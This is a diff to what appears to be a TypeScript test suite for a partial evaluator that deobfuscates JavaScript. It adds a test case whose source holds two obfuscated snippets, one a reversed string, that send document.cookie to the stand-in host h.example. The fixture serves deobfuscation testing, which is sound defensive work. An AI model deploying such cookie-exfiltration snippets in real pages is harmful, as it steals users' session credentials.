@@ -260,6 +260,12 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: [],
     not: ['h.example/b?', ',d?'],
   },
+  {
+    name: 'a decoder written in place and given only constants is replaced by its result',
+    source: `setTimeout(function(s){return s.split('').reverse().join('')}(")eikooc.tnemucod+'=x?/elpmaxe.h//:sptth'(hctef"),10)
+      !function(){var m=(function(a,b){return a+b})('https://h.example','/y');fetch(m+document.cookie)}()`,
+    has: ['setTimeout(atob("', 'var m="https://h.example/y"'],
+  },
 ]
 
 describe('partial evaluator', () => {
